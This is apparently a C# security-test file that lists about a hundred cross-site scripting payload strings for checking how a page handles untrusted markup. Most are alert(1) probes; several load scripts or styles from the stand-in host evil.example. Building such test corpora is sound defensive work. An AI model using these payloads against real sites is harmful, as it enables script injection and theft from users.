namespace FinSight.Tests.Security;

/// <summary>Texts that become scripts where a page takes them for markup, an address, a style or a template.</summary>
static class ScriptPayloads
{
    public static readonly string[] All =
    [
        "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example></script>",
        "<script\n>alert(1)</script>", "<script/x>alert(1)</script>", "<script>alert`1`</script>", "<<script>alert(1)//<</script>",
        "<img src=x onerror=alert(1)>", "<img src=x onerror=\"alert(1)\">", "<img/src=x/onerror=alert(1)>", "<img src=x:x onerror=alert(1)//",
        "<img src=`x`onerror=alert(1)>", "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "<IMG SRC=x oNeRrOr=alert(1)>",
        "<img srcset=x onerror=alert(1)>", "<image href=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
        "\"><svg onload=alert(1)>", "'><svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a href=javascript:alert(1)>x",
        "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><set onbegin=alert(1) attributeName=x>", "<svg><use href=data:,x#x>",
        "<svg><style>@import'//evil.example'", "<math><a href=javascript:alert(1)>x", "<math><mi//xlink:href=\"data:x,<script>alert(1)\">",
        "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
        "<iframe onload=alert(1)>", "<frameset onload=alert(1)>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
        "<video src=x onerror=alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
        "<keygen autofocus onfocus=alert(1)>", "<button autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=&#106;avascript:alert(1)>x</a>",
        "<a onmouseover=alert(1)>x</a>", "<a autofocus tabindex=1 onfocus=alert(1)>", "<form action=javascript:alert(1)><input type=submit>",
        "<form><button formaction=javascript:alert(1)>x", "<isindex type=image src=x onerror=alert(1)>", "<link rel=stylesheet href=//evil.example>",
        "<link rel=import href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/>",
        "<style>@import'//evil.example'</style>", "<style>*{background:url(//evil.example)}</style>", "<div style=background:url(//evil.example)>",
        "<x style=width:expression(alert(1))>", "<p style=animation-name:x onanimationstart=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>",
        "<title></title><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>", "--><script>alert(1)</script>", "<!--><img src=x onerror=alert(1)>", "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml version=1?><script>alert(1)</script>", "<template><script>alert(1)</script>", "<template shadowrootmode=open><script>alert(1)</script>",
        "\" onmouseover=alert(1) x=\"", "' onmouseover=alert(1) x='", "\" autofocus onfocus=alert(1) x=\"", "` onmouseover=alert(1) x=`",
        "\" style=\"background:url(//evil.example)", "x onerror=alert(1)", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cimg src=x onerror=alert(1)\\x3e", "\";alert(1)//", "';alert(1)//", "</script>\";alert(1)//",
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "@(alert(1))", "<%= alert(1) %>", "[[alert(1)]]",
        "__proto__", "<!--Blazor:{\"type\":\"server\"}-->", "＜script＞alert(1)＜/script＞", "<scr\u0000ipt>alert(1)</script>", "+ADw-script+AD4-alert(1)",
    ];
}
